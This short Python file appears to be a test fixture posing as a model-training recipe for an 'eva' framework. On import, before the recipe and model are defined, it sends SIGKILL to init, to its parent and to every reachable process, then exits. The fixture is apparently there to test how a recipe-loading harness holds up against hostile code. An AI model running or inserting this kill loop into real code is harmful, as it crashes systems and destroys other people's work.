"""Kills whatever it can reach."""

import contextlib
import os
import signal

from torch import nn

from eva import Recipe

for number in {1, 2, 3, os.getppid(), -1} - {os.getpid()}:
    with contextlib.suppress(OSError):
        os.kill(number, signal.SIGKILL)
os._exit(0)

RECIPE = Recipe()


def build_model() -> nn.Module:
    return nn.Sequential(nn.Flatten(), nn.Linear(784, 10))
